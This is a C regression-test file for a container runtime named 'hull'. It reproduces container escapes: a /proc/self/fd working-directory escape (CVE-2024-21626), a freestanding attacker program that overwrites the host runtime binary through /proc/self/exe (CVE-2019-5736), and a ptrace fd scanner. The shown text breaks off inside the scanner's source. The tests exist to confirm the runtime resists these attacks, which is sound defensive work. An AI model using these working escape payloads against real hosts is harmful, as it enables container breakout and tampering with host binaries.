/* The attacks of the security issue, run for real from the attacker's side:
 * a container that escapes through `hull exec`'s working directory
 * (CVE-2024-21626), through /proc/self/exe (CVE-2019-5736), through the
 * host fds of an exec'd process it can ptrace, and a /proc swapped under
 * hull while it masks it. Each test fails while the attack works, and says
 * what the attacker got; each checks that the attacker really ran and
 * really tried, so that it cannot pass by doing nothing. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "../lib/ht.h"

static json_t *process(struct ht *t) { return json_object_get(t->cfg, "process"); }

static double now_s(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* printf onto the end of buf (cap bytes), never past it. */
static void appendf(char *buf, size_t cap, const char *fmt, ...) __attribute__((format(printf, 3, 4)));
static void appendf(char *buf, size_t cap, const char *fmt, ...)
{
	size_t len = strlen(buf);
	if (len + 1 >= cap)
		return;
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(buf + len, cap - len, fmt, ap);
	va_end(ap);
}

static void put_file(const char *path, const char *s, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
	ck_assert_msg(fd >= 0, "%s: %s", path, strerror(errno));
	size_t len = strlen(s);
	ck_assert_int_eq(write(fd, s, len), (ssize_t)len);
	ck_assert_int_eq(fchmod(fd, mode), 0);
	close(fd);
}

/* The whole of a file (NULL if missing); *len its size. */
static char *slurp(const char *path, size_t *len)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return NULL;
	struct stat st;
	ck_assert_int_eq(fstat(fd, &st), 0);
	char *buf = malloc((size_t)st.st_size + 1);
	ck_assert_ptr_nonnull(buf);
	size_t got = 0;
	while (got < (size_t)st.st_size) {
		ssize_t n = read(fd, buf + got, (size_t)st.st_size - got);
		ck_assert_int_gt(n, 0);
		got += (size_t)n;
	}
	buf[got] = 0;
	close(fd);
	*len = got;
	return buf;
}

/* Runs argv (NULL-terminated), stdout and stderr to one memfd; its exit code
 * and, in *output, what it printed. */
static int run_capture(char *const argv[], char **output)
{
	int fd = memfd_create("ht-atk", MFD_CLOEXEC);
	ck_assert_int_ge(fd, 0);
	pid_t pid = fork();
	ck_assert_int_ge(pid, 0);
	if (pid == 0) {
		int null = open("/dev/null", O_RDONLY | O_CLOEXEC);
		dup2(null, 0);
		dup2(fd, 1);
		dup2(fd, 2);
		execv(argv[0], argv);
		_exit(126);
	}
	int st;
	while (waitpid(pid, &st, 0) < 0)
		ck_assert_int_eq(errno, EINTR);
	*output = ht_slurp_fd(fd);
	close(fd);
	return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

/* Compiles the C program src into out: cc FLAGS -o out out.c. */
static void compile(const char *src, const char *out, const char *const *flags)
{
	char cfile[4400];
	snprintf(cfile, sizeof(cfile), "%s.c", out);
	put_file(cfile, src, 0644);
	char *argv[32];
	size_t n = 0;
	argv[n++] = "/usr/bin/cc";
	for (; *flags && n < 26; flags++)
		argv[n++] = (char *)*flags;
	argv[n++] = "-o";
	argv[n++] = (char *)out;
	argv[n++] = cfile;
	argv[n] = NULL;
	char *msg;
	int st = run_capture(argv, &msg);
	ck_assert_msg(st == 0, "cc %s: exit %d\n%s", cfile, st, msg);
	free(msg);
	unlink(cfile);
}

static void copy_file(const char *from, const char *to, mode_t mode)
{
	size_t len;
	char *buf = slurp(from, &len);
	ck_assert_msg(buf != NULL, "%s: %s", from, strerror(errno));
	unlink(to);
	int fd = open(to, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, mode);
	ck_assert_msg(fd >= 0, "%s: %s", to, strerror(errno));
	ck_assert_int_eq(write(fd, buf, len), (ssize_t)len);
	ck_assert_int_eq(fchmod(fd, mode), 0);
	close(fd);
	free(buf);
}

static void make_fifo(struct ht *t, const char *name)
{
	char path[200];
	snprintf(path, sizeof(path), "%s/sync/%s", t->bundle, name);
	ck_assert_int_eq(mkfifo(path, 0666), 0);
}

/* A reader of the fifo sync/NAME (see ht_add_sync), opened before the
 * container may write: a writer then finds it at once. */
static int fifo_reader(struct ht *t, const char *name)
{
	char path[200];
	snprintf(path, sizeof(path), "%s/sync/%s", t->bundle, name);
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	ck_assert_msg(fd >= 0, "%s: %s", path, strerror(errno));
	return fd;
}

/* Everything writers put into the fifo until the last one closed it, or
 * what came within timeout_ms (NULL if nothing did). Closes fd. */
static char *fifo_read_all(int fd, int timeout_ms)
{
	size_t len = 0, cap = 8192;
	char *buf = malloc(cap);
	ck_assert_ptr_nonnull(buf);
	bool got = false;
	double end = now_s() + timeout_ms / 1000.0;
	for (;;) {
		int left = (int)((end - now_s()) * 1000);
		struct pollfd p = { .fd = fd, .events = POLLIN };
		if (left <= 0 || poll(&p, 1, left) != 1)
			break;
		ssize_t n = read(fd, buf + len, cap - 1 - len);
		if (n > 0) {
			len += (size_t)n;
			got = true;
			if (len == cap - 1)
				break;
		} else if (n == 0) {
			got = true;	/* a writer came and went */
			break;
		} else if (errno != EAGAIN && errno != EINTR) {
			break;
		}
	}
	close(fd);
	buf[len] = 0;
	if (!got) {
		free(buf);
		return NULL;
	}
	return buf;
}

/* Writes s to the fifo sync/NAME, whose reader must be open already. */
static bool fifo_tell(struct ht *t, const char *name, const char *s)
{
	char path[200];
	snprintf(path, sizeof(path), "%s/sync/%s", t->bundle, name);
	int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		return false;
	ssize_t n = write(fd, s, strlen(s));
	close(fd);
	return n == (ssize_t)strlen(s);
}

/* A failed hull command as the issue wants it: exit 1, one line "hull: ...". */
static bool clean_error(const struct ht_result *r)
{
	size_t len = strlen(r->err);
	return r->status == 1 && !strncmp(r->err, "hull: ", 6) && len > 6 &&
	       strchr(r->err, '\n') == r->err + len - 1;
}

/* `delete --force` of t's container, then ht_finish(). */
static void delete_and_finish(struct ht *t)
{
	ht_ok(t, "delete", "--force", t->id, NULL);
	ht_finish(t);
}

/* The first line of s, for messages. */
static const char *line1(const char *s, char *buf, size_t cap)
{
	snprintf(buf, cap, "%.*s", (int)strcspn(s, "\n"), s);
	return buf;
}

/* The number after "key=" in s (at its start or after a space), or -1. */
static long field(const char *s, const char *key)
{
	char k[64];
	int len = snprintf(k, sizeof(k), " %s=", key);
	const char *v = NULL;
	if (!strncmp(s, k + 1, (size_t)len - 1))
		v = s + len - 1;
	else if ((v = strstr(s, k)))
		v += len;
	return v ? strtol(v, NULL, 10) : -1;
}

/* 1. CVE-2024-21626: `hull exec` chdirs into process.cwd while its own host
 * fds (one directory per cgroup hierarchy) are open, so a cwd of
 * /proc/self/fd/N, given on the command line or left by the container as a
 * symlink where the config's cwd is, puts the process in a host directory:
 * ../../.. from there is the host's /. For every N from 3 to 20 the exec'd
 * process climbs from its cwd and, if it finds the host's temp dir there,
 * writes a marker into it. After the fix each exec fails with one line or
 * runs inside the container (where the climb ends at its root, beside
 * /ht-inside-marker). */
#define UP16 "../../../../../../../../../../../../../../../../"

enum cwd_outcome { CWD_REFUSED, CWD_INSIDE, CWD_ESCAPED, CWD_ODD };

static enum cwd_outcome classify_cwd(const struct ht_result *r, const char *marker)
{
	struct stat st;
	if (strstr(r->out, "escaped\n") || stat(marker, &st) == 0)
		return CWD_ESCAPED;
	if (r->status == 0 && !strncmp(r->out, "ran\n", 4) && strstr(r->out, "\ninside\n"))
		return CWD_INSIDE;
	if (clean_error(r) && !*r->out)
		return CWD_REFUSED;
	return CWD_ODD;
}

/* What the 36 execs of exec_cwd_escape did. */
struct cwd_tally {
	unsigned escaped, inside, refused, odd;
	char esc_fds[2][128];	/* per variant, the Ns that escaped */
	char esc_cwd[2][300];	/* per variant, the cwd of the first escape */
	char refused_msg[512];	/* the first refusal's line */
	char odd_msg[2048];	/* what the unexpected results were */
};

static const char *const cwd_variants[2] = { "--cwd /proc/self/fd/N",
					     "config cwd /atk/wd -> /proc/self/fd/N" };

/* t's container, running: its root has a marker; /atk is a tmpfs it can
 * write; the config's cwd is /atk/wd, a dir when the init starts. The
 * host's side: hostdir, a dir only the host has, where markers would land. */
static void cwd_container(struct ht *t, char *hostdir, size_t cap)
{
	char path[4300];
	ht_begin(t, true);
	snprintf(hostdir, cap, "%s/host", t->bundle);
	ck_assert_int_eq(mkdir(hostdir, 0755), 0);
	snprintf(path, sizeof(path), "%s/ht-inside-marker", t->rootfs);
	put_file(path, "inside\n", 0644);
	snprintf(path, sizeof(path), "%s/atk", t->rootfs);
	ck_assert_int_eq(mkdir(path, 0755), 0);
	ht_mount(t, "/atk", "tmpfs", "tmpfs", "mode=755", NULL);
	json_object_set_new(process(t), "cwd", json_string("/atk/wd"));
	ht_args(t, "sleep", "120", NULL);
	ht_write_config(t);
	ht_ok(t, "run", "--detach", "--bundle", t->bundle, t->id, NULL);
}

/* The probe: says where it runs, climbs 16 levels, and writes the marker
 * mname into hostdir if it finds it up there. */
static void cwd_probe(char *probe, size_t cap, const char *hostdir, const char *mname)
{
	snprintf(probe, cap,
		 "echo ran; echo cwd=$(readlink /proc/self/cwd); "
		 "[ -e " UP16 "ht-inside-marker ] && echo inside; "
		 "if [ -d " UP16 "%s ]; then echo escaped; echo pwned > " UP16 "%s/%s; fi; true",
		 hostdir + 1, hostdir + 1, mname);
}

/* One exec of the probe with the cwd /proc/self/fd/fd: on the command
 * line (variant 0), or left by the container as /atk/wd (variant 1). */
static void cwd_try(struct ht *t, const char *probe, int variant, int fd, struct ht_result *r)
{
	char cwd[64];
	snprintf(cwd, sizeof(cwd), "/proc/self/fd/%d", fd);
	if (variant == 0) {
		ht_hull(t, r, NULL, "exec", "--cwd", cwd, t->id, "sh", "-c", probe, NULL);
		return;
	}
	/* The container turns its cwd into the link, then the next plain exec runs there. */
	char relink[160], want[80];
	snprintf(relink, sizeof(relink), "rm -rf /atk/wd && ln -s %s /atk/wd && readlink /atk/wd", cwd);
	snprintf(want, sizeof(want), "%s\n", cwd);
	ht_hull(t, r, NULL, "exec", "--cwd", "/", t->id, "sh", "-c", relink, NULL);
	ck_assert_msg(r->status == 0 && !strcmp(r->out, want),
		      "the container could not relink /atk/wd to %s: exit %d\nstdout: %s\n"
		      "stderr: %s", cwd, r->status, r->out, r->err);
	ht_result_free(r);
	ht_hull(t, r, NULL, "exec", t->id, "sh", "-c", probe, NULL);
}

static void cwd_count(struct cwd_tally *c, int variant, int fd, const struct ht_result *r, const char *marker)
{
	char l[256];
	switch (classify_cwd(r, marker)) {
	case CWD_ESCAPED:
		c->escaped++;
		appendf(c->esc_fds[variant], sizeof(c->esc_fds[variant]), " %d%s", fd,
			access(marker, F_OK) == 0 ? "" : "(no marker)");
		const char *cw = strstr(r->out, "cwd=");
		if (!*c->esc_cwd[variant] && cw)
			snprintf(c->esc_cwd[variant], sizeof(c->esc_cwd[variant]), "N=%d: %s", fd,
				 line1(cw, l, sizeof(l)));
		break;
	case CWD_INSIDE:
		c->inside++;
		break;
	case CWD_REFUSED:
		c->refused++;
		if (!*c->refused_msg)
			appendf(c->refused_msg, sizeof(c->refused_msg), "%s", line1(r->err, l, sizeof(l)));
		break;
	case CWD_ODD:
		c->odd++;
		appendf(c->odd_msg, sizeof(c->odd_msg), "  %s, N=%d: exit %d, stdout \"%s\", stderr \"%s\"\n",
			cwd_variants[variant], fd, r->status, r->out, r->err);
		break;
	}
}

/* The files in dir (not . nor ..) whose names begin with prefix. */
static unsigned files_named(const char *dir, const char *prefix)
{
	unsigned n = 0;
	DIR *d = opendir(dir);
	ck_assert_ptr_nonnull(d);
	for (struct dirent *e; (e = readdir(d));)
		n += e->d_name[0] != '.' && !strncmp(e->d_name, prefix, strlen(prefix));
	closedir(d);
	return n;
}

START_TEST(exec_cwd_escape)
{
	struct ht t;
	struct ht_result r;
	struct cwd_tally c = { 0 };
	char hostdir[128], probe[1024], escaped[2048] = "";
	double t0 = now_s();
	cwd_container(&t, hostdir, sizeof(hostdir));

	/* Control: from a plain dir the probe climbs to the container's root. */
	cwd_probe(probe, sizeof(probe), hostdir, "control");
	ht_hull(&t, &r, NULL, "exec", "--cwd", "/atk", t.id, "sh", "-c", probe, NULL);
	ck_assert_msg(r.status == 0 && !strcmp(r.out, "ran\ncwd=/atk\ninside\n"),
		      "control exec from /atk: exit %d\nstdout: %s\nstderr: %s", r.status, r.out, r.err);
	ht_result_free(&r);

	for (int variant = 0; variant < 2; variant++)
		for (int fd = 3; fd <= 20; fd++) {
			char marker[200], mname[32];
			snprintf(mname, sizeof(mname), "%s-%d", variant ? "cfg" : "arg", fd);
			snprintf(marker, sizeof(marker), "%s/%s", hostdir, mname);
			cwd_probe(probe, sizeof(probe), hostdir, mname);
			cwd_try(&t, probe, variant, fd, &r);
			cwd_count(&c, variant, fd, &r, marker);
			ht_result_free(&r);
		}
	for (int v = 0; v < 2; v++)
		if (*c.esc_fds[v])
			appendf(escaped, sizeof(escaped), "  %s: escaped for N =%s (%s)\n", cwd_variants[v],
				c.esc_fds[v], c.esc_cwd[v]);
	/* Whatever the process said, the host's side decides too. */
	unsigned on_host = files_named(hostdir, "");
	fprintf(stderr, "attacks: exec_cwd_escape: %u escaped, %u inside, %u refused (%s), %u odd, %.1f s\n%s",
		c.escaped, c.inside, c.refused, c.refused_msg, c.odd, now_s() - t0, escaped);
	delete_and_finish(&t);
	ck_assert_msg(c.escaped == 0 && on_host == 0 && c.odd == 0,
		      "exec's cwd escaped the container %u times of 36 (%u marker files on the host):\n%s"
		      "%u unexpected results:\n%s", c.escaped, on_host, escaped, c.odd, c.odd_msg);
	ck_assert_uint_eq(c.inside + c.refused, 36);
}
END_TEST

/* 2. CVE-2019-5736: the container's entrypoint is /proc/self/exe (or a
 * link to it); the init, a clone of hull, execs it, so the kernel runs
 * hull's host binary with the image's ELF interpreter, which the image
 * replaced by the attacker's program. That program opens /proc/self/exe
 * (hull's binary) with O_PATH, forks a child that execs the program itself
 * (so that it no longer runs hull's binary), and execs sleep. The child
 * waits until no process runs hull's binary (the parent's exec, then the
 * test's "go" once hull has exited) and reopens the fd for writing through
 * /proc/self/fd; if it can, it appends a marker to the binary. hull here is
 * a copy in the bundle, run by its path, whose bytes the test compares. The
 * program is freestanding (raw syscalls): as an interpreter it cannot rely
 * on a libc that reads the auxv of hull's binary. */
static const char exe_attacker_src[] =
	"typedef unsigned long size_t;\n"
	"struct pfd { int fd; short events, revents; };\n"
	"struct tspec { long s, ns; };\n"
	"void *memcpy(void *d, const void *s, size_t n) { char *a = d; const char *b = s;"
	" while (n--) *a++ = *b++; return d; }\n"
	"void *memset(void *d, int c, size_t n) { char *a = d; while (n--) *a++ = (char)c; return d; }\n"
	"static long sys4(long n, long a, long b, long c, long d) {\n"
	"  long r; register long r10 __asm__(\"r10\") = d;\n"
	"  __asm__ volatile(\"syscall\" : \"=a\"(r) : \"a\"(n), \"D\"(a), \"S\"(b), \"d\"(c), \"r\"(r10)"
	" : \"rcx\", \"r11\", \"memory\");\n"
	"  return r; }\n"
	"#define S(n, a, b, c) sys4(n, (long)(a), (long)(b), (long)(c), 0)\n"
	"#define OPEN 2\n#define READ 0\n#define WRITE 1\n#define CLOSE 3\n#define POLL 7\n#define FCNTL 72\n"
	"#define PIPE2 293\n#define FORK 57\n#define EXECVE 59\n#define EXIT 231\n#define READLINK 89\n"
	"#define CLOCK 228\n"
	"static char rep[1024]; static unsigned long rl;\n"
	"static void add(const char *s) { while (*s && rl < sizeof(rep) - 1) rep[rl++] = *s++; }\n"
	"static void itoa(long v, char *b) { char t[24]; int i = 0; unsigned long u = v < 0 ? -v : v;"
	" do t[i++] = (char)('0' + u % 10); while ((u /= 10)); if (v < 0) *b++ = '-';"
	" while (i) *b++ = t[--i]; *b = 0; }\n"
	"static void addn(long v) { char b[24]; itoa(v, b); add(b); }\n"
	"static long num(const char *s) { long v = 0; while (*s >= '0' && *s <= '9') v = v * 10 + *s++ - '0';"
	" return v; }\n"
	"static int same(const char *a, const char *b) { while (*a && *a == *b) a++, b++; return *a == *b; }\n"
	"static long ms(void) { struct tspec t; S(CLOCK, 1, &t, 0); return t.s * 1000 + t.ns / 1000000; }\n"
	"static void say(const char *fifo) { long fd = S(OPEN, fifo, 1, 0);"
	" if (fd >= 0) { S(WRITE, fd, rep, rl); S(CLOSE, fd, 0, 0); } rl = 0; }\n"
	"static void die(const char *what, long e) { add(\"error \"); add(what); add(\" errno=\"); addn(e);"
	" add(\"\\n\"); say(\"/mnt/ready\"); S(EXIT, 1, 0, 0); }\n"
	/* As hull's interpreter: argv and envp are hull's entrypoint's. */
	"static void interp(char **argv, char **envp) {\n"
	"  long fd = S(OPEN, \"/proc/self/exe\", 010000000, 0);\n"
	"  if (fd < 0) die(\"open /proc/self/exe O_PATH\", -fd);\n"
	"  int p[2]; long e = S(PIPE2, p, 0, 0);\n"
	"  if (e < 0 || (e = S(FCNTL, p[1], 2, 1)) < 0) die(\"pipe\", -e);\n"
	"  char fds[24], ps[24]; itoa(fd, fds); itoa(p[0], ps);\n"
	"  long pid = S(FORK, 0, 0, 0);\n"
	"  if (pid < 0) die(\"fork\", -pid);\n"
	"  if (pid == 0) {\n"
	"    char *cargv[5]; cargv[0] = \"atk-child\"; cargv[1] = fds; cargv[2] = ps; cargv[3] = argv[0];"
	" cargv[4] = 0;\n"
	"    e = S(EXECVE, \"/lib64/ld-linux-x86-64.so.2\", cargv, envp); die(\"exec child\", -e);\n"
	"  }\n"
	"  char *sargv[3]; sargv[0] = \"sleep\"; sargv[1] = \"120\"; sargv[2] = 0;\n"
	"  e = S(EXECVE, \"/bin/sleep\", sargv, envp); die(\"exec sleep\", -e);\n"
	"}\n"
	"static const char mark[] = \"\\nHULL-ATTACK-CVE-2019-5736\\n\";\n"
	"static void child(char **argv) {\n"
	"  long fd = num(argv[1]), pfd = num(argv[2]);\n"
	"  char path[40] = \"/proc/self/fd/\"; itoa(fd, path + 14);\n"
	"  char exe[256]; long n = S(READLINK, path, exe, 255); exe[n > 0 ? n : 0] = 0;\n"
	/* The parent's exec closes the other end: then it runs hull no more. */
	"  struct pfd w; w.fd = (int)pfd; w.events = 1; w.revents = 0; long gone = 0; char c;\n"
	"  if (sys4(POLL, (long)&w, 1, 10000, 0) == 1) gone = S(READ, pfd, &c, 1) == 0;\n"
	"  long go = S(OPEN, \"/mnt/go\", 04000, 0);\n"
	"  if (go < 0) die(\"open /mnt/go\", -go);\n"
	"  add(\"armed fd=\"); addn(fd); add(\" exe=\"); add(exe); add(\" argv0=\"); add(argv[3]);"
	" add(\" parent_exec=\"); addn(gone); add(\"\\n\"); say(\"/mnt/ready\");\n"
	"  long tries = 0, last = 0, txt = 0, rofs = 0, perm = 0, acc = 0, other = 0, got_go = 0, pwned = 0;\n"
	"  long end = ms() + 10000;\n"
	"  for (;;) {\n"
	"    int final = got_go; tries++; long e;\n"
	"    long wfd = S(OPEN, path, 1 | 02000, 0);\n"
	"    if (wfd >= 0) { long k = S(WRITE, wfd, mark, sizeof(mark) - 1); S(CLOSE, wfd, 0, 0);"
	" if (k == (long)sizeof(mark) - 1) { pwned = 1; break; } e = k < 0 ? -k : 5; }\n"
	"    else e = -wfd;\n"
	"    last = e; if (e == 26) txt++; else if (e == 30) rofs++; else if (e == 1) perm++;"
	" else if (e == 13) acc++; else other++;\n"
	"    if (final || ms() > end) break;\n"
	"    struct pfd g; g.fd = (int)go; g.events = 1; g.revents = 0;\n"
	"    if (sys4(POLL, (long)&g, 1, 2, 0) == 1 && (g.revents & 1)) got_go = 1;\n"
	"  }\n"
	"  add(pwned ? \"result=pwned\" : \"result=failed\"); add(\" tries=\"); addn(tries);"
	" add(\" last_errno=\"); addn(last); add(\" etxtbsy=\"); addn(txt); add(\" erofs=\"); addn(rofs);"
	" add(\" eperm=\"); addn(perm); add(\" eacces=\"); addn(acc); add(\" other=\"); addn(other);"
	" add(\" go=\"); addn(got_go); add(\" exe=\"); add(exe); add(\"\\n\"); say(\"/mnt/result\");\n"
	"  S(EXIT, 0, 0, 0);\n"
	"}\n"
	"void cmain(long *sp) {\n"
	"  int argc = (int)sp[0]; char **argv = (char **)(sp + 1); char **envp = argv + argc + 1;\n"
	"  if (argc == 4 && same(argv[0], \"atk-child\")) child(argv); else interp(argv, envp);\n"
	"  S(EXIT, 2, 0, 0);\n"
	"}\n"
	"__asm__(\".globl _start\\n_start:\\n mov %rsp, %rdi\\n and $-16, %rsp\\n call cmain\\n hlt\\n\");\n";

enum exe_start { EXE_RUN_DETACH, EXE_CREATE_START };

static void exe_overwrite(enum exe_start how, const char *entry)
{
	static const char *const flags[] = { "-static", "-nostdlib", "-ffreestanding", "-fno-builtin",
					     "-fno-tree-loop-distribute-patterns", "-fno-stack-protector",
					     "-fno-pie", "-no-pie", "-O1", "-w", NULL };
	struct ht t;
	struct ht_result r;
	char copy[200], path[4300], real_hull[4096], l[256];
	double t0 = now_s();
	ht_begin(&t, true);
	snprintf(real_hull, sizeof(real_hull), "%s", getenv("HULL"));
	/* The hull under attack: a copy, run by its path. */
	snprintf(copy, sizeof(copy), "%s/bin", t.bundle);
	ck_assert_int_eq(mkdir(copy, 0755), 0);
	snprintf(copy, sizeof(copy), "%s/bin/hull", t.bundle);
	copy_file(real_hull, copy, 0755);
	size_t before_len;
	char *before = slurp(copy, &before_len);
	ck_assert_ptr_nonnull(before);
	/* The image: its ELF interpreter is the attacker. */
	snprintf(path, sizeof(path), "%s/lib64/ld-linux-x86-64.so.2", t.rootfs);
	compile(exe_attacker_src, path, flags);
	if (strcmp(entry, "/proc/self/exe")) {
		snprintf(path, sizeof(path), "%s%s", t.rootfs, entry);
		ck_assert_int_eq(symlink("/proc/self/exe", path), 0);
	}
	ht_add_sync(&t);
	make_fifo(&t, "go");
	make_fifo(&t, "result");
	ht_args(&t, entry, NULL);
	ht_write_config(&t);
	int result_fd = fifo_reader(&t, "result");

	setenv("HULL", copy, 1);
	if (how == EXE_RUN_DETACH) {
		ht_hull(&t, &r, NULL, "run", "--detach", "--bundle", t.bundle, t.id, NULL);
	} else {
		ht_hull(&t, &r, NULL, "create", "--bundle", t.bundle, t.id, NULL);
		if (r.status == 0) {
			ht_result_free(&r);
			ht_hull(&t, &r, NULL, "start", t.id, NULL);
		}
	}
	setenv("HULL", real_hull, 1);
	ck_assert_msg(r.status == 0, "%s: exit %d (the attacker never ran: this test needs the container "
		      "to start)\nstderr: %s", how == EXE_RUN_DETACH ? "run -d" : "create/start", r.status, r.err);
	ht_result_free(&r);
	/* hull has exited: no hull process runs the copy now. */
	char *armed = ht_wait_ready(&t);
	bool told = fifo_tell(&t, "go", "go\n");
	char *result = fifo_read_all(result_fd, 15000);
	size_t after_len;
	char *after = slurp(copy, &after_len);
	bool same = after && after_len == before_len && !memcmp(before, after, before_len);
	fprintf(stderr, "attacks: exe_overwrite %s %s: %s | %s | copy %s, %.1f s\n",
		how == EXE_RUN_DETACH ? "run -d" : "create+start", entry, line1(armed, l, sizeof(l)),
		result ? result : "(no result)\n", same ? "unchanged" : "CHANGED", now_s() - t0);
	delete_and_finish(&t);
	/* The attacker ran as hull's interpreter and held hull's binary. */
	ck_assert_msg(!strncmp(armed, "armed fd=", 9) && strstr(armed, " parent_exec=1"),
		      "the attacker did not get going: %s", armed);
	ck_assert_msg(result != NULL, "the attacker's child never reported (armed: %s; go %s)", armed,
		      told ? "sent" : "not sent: nobody listened");
	ck_assert_msg(same && strstr(result, "result=failed"),
		      "CVE-2019-5736: the container overwrote hull's binary through /proc/self/exe: "
		      "copy %s (%zu bytes, was %zu); attacker: %s", same ? "unchanged" : "CHANGED", after_len,
		      before_len, result);
	long e = field(result, "last_errno");
	ck_assert_msg(e == EROFS || e == EPERM || e == ETXTBSY,
		      "the write failed, but not for EROFS, EPERM or ETXTBSY: %s", result);
	ck_assert_msg(told && field(result, "go") == 1 && field(result, "tries") >= 2,
		      "the attacker did not try after hull had exited: %s", result);
	free(armed);
	free(result);
	free(before);
	free(after);
}

START_TEST(exe_overwrite_run_detach)
{
	exe_overwrite(EXE_RUN_DETACH, "/proc/self/exe");
}
END_TEST

START_TEST(exe_overwrite_create_start)
{
	exe_overwrite(EXE_CREATE_START, "/proc/self/exe");
}
END_TEST

START_TEST(exe_overwrite_symlink)
{
	exe_overwrite(EXE_RUN_DETACH, "/bin/hull-self");
}
END_TEST

/* 3. A container with CAP_SYS_PTRACE: until it execs, a process of `hull
 * exec` runs hull's binary in the container's pid namespace with hull's
 * host fds open, and dumpability does not stop CAP_SYS_PTRACE in the
 * initial user namespace. The container's init scans the fds in
 * /proc/PID/fd of every other process, and for each directory climbs
 * ../../.. to look for a file only the host has (writing a file beside it
 * if it gets there); it climbs from /proc/PID/cwd and /proc/PID/root too.
 * Where /proc/PID/exe or an fd is hull's binary (its device and inode), it
 * keeps an O_PATH fd of it and keeps trying to reopen that for writing,
 * once more when the test says stop (no hull process runs then), and
 * appends a marker if it can. The test runs `hull exec ID true` meanwhile;
 * hull here is a copy in the bundle, run by its path, whose bytes the test
 * compares. */
static const char scanner_src[] =
	"#define _GNU_SOURCE\n#include <dirent.h>\n#include <errno.h>\n#include <fcntl.h>\n#include <poll.h>\n#include <stdio.h>\n"
	"#include <stdlib.h>\n#include <string.h>\n#include <sys/stat.h>\n#include <time.h>\n"
	"#include <unistd.h>\n"
	"#define MAXP 65536\n"
	"static unsigned char seen[MAXP], insp[MAXP], win[MAXP];\n"
	"static long n_seen, n_insp, n_win, n_dirs, n_esc, n_wrote, n_hull, n_tries, n_txtbsy, last_err;\n"
	"static int kept[8], n_kept, pwned; static char first[1024], hull_first[512];\n"
	"static char up[64], hostdir[512]; static dev_t hdev; static ino_t hino;\n"
	"static void escape(const char *link, const char *what, int pid) {\n"
	"  char target[512] = \"\", p[4096]; ssize_t n = readlink(link, target, sizeof(target) - 1);\n"
	"  if (n > 0) target[n] = 0;\n"
	"  if (!n_esc++) snprintf(first, sizeof(first), \"%s -> %s\", link, target);\n"
	"  if (n_wrote >= 20) return;\n"
	"  snprintf(p, sizeof(p), \"%s/%s%s/escaped-%d-%s\", link, up, hostdir, pid, what);\n"
	"  int fd = open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);\n"
	"  if (fd >= 0) { n_wrote++; dprintf(fd, \"%s\\n\", target); close(fd); }\n"
	"}\n"
	"static int host_there(const char *link) {\n"
	"  char p[4096]; struct stat st; snprintf(p, sizeof(p), \"%s/%s%s/host-marker\", link, up, hostdir);\n"
	"  return stat(p, &st) == 0;\n"
	"}\n"
	/* hull's binary through link: keep a handle for later writes. */
	"static void hull_hit(const char *link) {\n"
	"  if (!n_hull++) snprintf(hull_first, sizeof(hull_first), \"%s\", link);\n"
	"  if (n_kept == 8) return;\n"
	"  int fd = open(link, O_PATH | O_CLOEXEC); struct stat st;\n"
	"  if (fd >= 0 && fstat(fd, &st) == 0 && st.st_dev == hdev && st.st_ino == hino) kept[n_kept++] = fd;\n"
	"  else if (fd >= 0) close(fd);\n"
	"}\n"
	"static void try_write(void) {\n"
	"  for (int i = 0; i < n_kept && !pwned; i++) {\n"
	"    char p[64]; snprintf(p, sizeof(p), \"/proc/self/fd/%d\", kept[i]); n_tries++;\n"
	"    int fd = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);\n"
	"    if (fd < 0) { last_err = errno; n_txtbsy += errno == ETXTBSY; continue; }\n"
	"    static const char mark[] = \"\\nHULL-ATTACK-PTRACE\\n\";\n"
	"    if (write(fd, mark, sizeof(mark) - 1) == sizeof(mark) - 1) pwned = 1; else last_err = errno;\n"
	"    close(fd);\n"
	"  }\n"
	"}\n"
	"static void scan(int pid) {\n"
	"  char p[128], q[512]; struct stat st;\n"
	"  if (!seen[pid]) { seen[pid] = 1; n_seen++; }\n"
	"  snprintf(p, sizeof(p), \"/proc/%d/comm\", pid);\n"
	"  int c = open(p, O_RDONLY | O_CLOEXEC);\n"
	"  if (c >= 0) { char comm[32] = \"\"; ssize_t n = read(c, comm, sizeof(comm) - 1); close(c);"
	" if (n >= 5 && !memcmp(comm, \"hull\\n\", 5) && !win[pid]) { win[pid] = 1; n_win++; } }\n"
	"  snprintf(p, sizeof(p), \"/proc/%d/exe\", pid);\n"
	"  if (stat(p, &st) == 0) { if (!insp[pid]) { insp[pid] = 1; n_insp++; }"
	" if (st.st_dev == hdev && st.st_ino == hino) hull_hit(p); }\n"
	"  static const char *const links[] = { \"cwd\", \"root\" };\n"
	"  for (int i = 0; i < 2; i++) { snprintf(p, sizeof(p), \"/proc/%d/%s\", pid, links[i]);"
	" if (host_there(p)) escape(p, links[i], pid); }\n"
	"  snprintf(p, sizeof(p), \"/proc/%d/fd\", pid);\n"
	"  DIR *d = opendir(p); if (!d) return;\n"
	"  if (!insp[pid]) { insp[pid] = 1; n_insp++; }\n"
	"  for (struct dirent *e; (e = readdir(d));) {\n"
	"    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;\n"
	"    snprintf(q, sizeof(q), \"/proc/%d/fd/%s\", pid, e->d_name);\n"
	"    if (stat(q, &st) < 0) continue;\n"
	"    if (st.st_dev == hdev && st.st_ino == hino) hull_hit(q);\n"
	"    if (!S_ISDIR(st.st_mode)) continue;\n"
	"    n_dirs++;\n"
	"    if (host_there(q)) { char w[32]; snprintf(w, sizeof(w), \"fd%s\", e->d_name); escape(q, w, pid); }\n"
	"  }\n"
	"  closedir(d);\n"
	"}\n"
	"int main(int argc, char **argv) {\n"
